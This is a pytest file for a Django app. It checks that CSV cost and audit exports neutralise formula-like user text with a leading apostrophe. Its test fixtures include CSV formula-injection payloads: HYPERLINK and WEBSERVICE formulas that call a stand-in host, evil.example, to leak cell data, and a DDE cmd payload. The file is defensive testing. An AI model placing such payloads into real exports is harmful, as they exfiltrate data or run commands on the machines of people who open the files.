"""CSV formula injection (issue 33, finding 3): text a user controls (a display name from single sign-on, a username,
an admin's note) that starts like a formula reaches every CSV export with a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from billing import services
from kernel.csv_cells import csv_cell
from queues.policy.audit import AuditEntry, Change, audit_csv
from tests.billing.conftest import T0, H, run_job

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RANGE = {"start": "2026-03-01", "end": "2026-03-31"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3.50", "-3.50"),
        ("+12", "+12"),
        ("1e-3", "1e-3"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("", ""),
        (7, 7),
    ],
)
def test_csv_cell_neutralises_formulas_and_keeps_numbers(value, cell):
    assert csv_cell(value) == cell


@pytest.fixture
def evil_usage(world):
    world.bob.first_name, world.bob.last_name = EVIL, ""
    world.bob.username = "-1+1"
    world.bob.save()
    run_job(world, owner=world.bob, devices=1, start=T0 + H, end=T0 + 2 * H)
    end = T0 + timedelta(days=1)
    services.metering_sync(now=end)
    services.usage_rollup(day=T0.date(), now=end)
    return world


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def _no_live_formula(cells: list[str]) -> None:
    live = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _numeric(c))]
    assert live == []


def _numeric(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_team_leads_cost_export_neutralises_a_formula_display_name(client, evil_usage):
    client.force_login(evil_usage.lead)
    response = client.get(reverse("billing:cost_csv"), RANGE)
    cells = _cells(response.content)
    assert "'" + EVIL in cells
    _no_live_formula(cells)


def test_the_per_job_export_neutralises_a_formula_username(client, evil_usage):
    client.force_login(evil_usage.lead)
    response = client.get(reverse("billing:cost_csv"), {**RANGE, "rows": "jobs"})
    cells = _cells(response.content)
    assert "'-1+1" in cells
    _no_live_formula(cells)


def test_the_cost_report_command_csv_neutralises_it_too(evil_usage):
    out = io.StringIO()
    call_command("cost_report", "--team", evil_usage.team.slug, "--from", "2026-03-01", "--to", "2026-03-31",
                 "--format", "csv", stdout=out)  # fmt: skip
    cells = _cells(out.getvalue().encode())
    assert "'" + EVIL in cells
    _no_live_formula(cells)


def test_the_policy_audit_export_neutralises_what_admins_typed():
    """The audit CSV carries free text (an SSO mapping's value, a note, a change reason) typed in the admin."""
    entry = AuditEntry(at=timezone.now(), user="@root", model="portal.SsoMapping", object_id=1,
                       object_repr="Group '=cmd' → member", action="changed",
                       changes=(Change("note", "-", "=WEBSERVICE(\"http://evil.example/\")"),), reason="+x")  # fmt: skip
    cells = _cells(audit_csv([entry]).encode())
    assert '\'=WEBSERVICE("http://evil.example/")' in cells
    assert "'@root" in cells
    assert "'+x" in cells
    assert "'-" in cells  # a lone minus is not a number
    _no_live_formula(cells)
